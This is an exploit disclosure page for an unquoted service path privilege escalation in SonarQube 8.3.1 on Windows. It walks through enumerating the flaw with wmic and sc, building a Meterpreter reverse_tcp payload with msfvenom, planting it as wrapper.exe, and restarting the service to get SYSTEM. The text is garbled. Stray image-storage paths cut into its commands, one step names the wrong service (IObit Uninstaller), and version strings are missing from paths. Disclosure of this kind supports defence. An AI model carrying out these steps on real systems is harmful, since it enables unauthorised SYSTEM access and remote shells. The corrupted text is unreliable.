Sonar Qube 8.3.1 Unquoted Service Path

Risk: Medium
Local: Yes
Remote: No

# Title: Sonar Qube 8.3.1 - 'SonarQube Service' Unquoted Service Path # Author: Velayutham Selvaraj # Date: 2020-06-03 # Vendor Homepage: # Software Link: # Version : 8.3.1 # Tested on: Windows 10 64bit(EN) About Unquoted Service Path : === When a service is created whose executable path contains spaces and isn't enclosed within quotes, leads to a vulnerability known as Unquoted Service Path which allows a user to gain SYSTEM privileges. (only if the vulnerable service is running with SYSTEM privilege level which most of the time it is). Steps to recreate : === 1. Open CMD and Check for USP vulnerability by typing [ wmic service get name,displayname,pathname,startmode | findstr /i "auto" | findstr /i /v "c:\windows\\" |findstr /i /v """ ] 2. The Vulnerable Service would Show up. 3. Check the Service Permissions by typing [ sc qc SonarQube] 4. The command would return.. C:\Users\HP-840-G2-ELITEBOOK>sc qc SonarQube [SC] QueryServiceConfig SUCCESS SERVICE_NAME: SonarQube TYPE : 10 WIN32_OWN_PROCESS START_TYPE : 2 AUTO_START ERROR_CONTROL : 1 NORMAL BINARY_PATH_NAME : C:\Users\HP-840-G2-ELITEBOOK\Downloads\sonarqube-\sonarqube-\bin\windows-x86-64\wrapper.exe -s C:\Users\HP-840-G2-ELITEBOOK\Downloads\sonarqube-\sonarqube-\conf\wrapper.conf LOAD_ORDER_GROUP : TAG : 0 DISPLAY_NAME : SonarQube DEPENDENCIES : SERVICE_START_NAME : LocalSystem 5. This concludes that the service is running as SYSTEM. "Highest privilege in a machine" 6. Now create a Payload with msfvenom or other tools and name it to wrapper.exe 7. Make sure you have write Permissions to where you downloaded. i kept it in downloads folders but confirmed it in program files as well. 8. Provided that you have right permissions, Drop the wrapper.exe executable you created into the"C:\Users\HP-840-G2-ELITEBOOK\Downloads\sonarqube-\sonarqube-\bin\windows-x86-64\" Directory. 9. Now restart the IObit Uninstaller service by giving coommand [ sc stop SonarQube] followed by [ sc start SonarQube] 10. If your payload is created with msfvenom, quickly migrate to a different process. [Any process since you have the SYSTEM Privilege]. During my testing : Payload : msfvenom -p windows/meterpreter/reverse_tcp -f exe -o wrapper.exe Migrate : meterpreter> run post/windows/manage/migrate [To migrate into a different Process]

Vote for this issue:


Thanks for youvote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) -required fields.
{{ x.nick }} |Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment}}

Copyright 2020,


Back to Top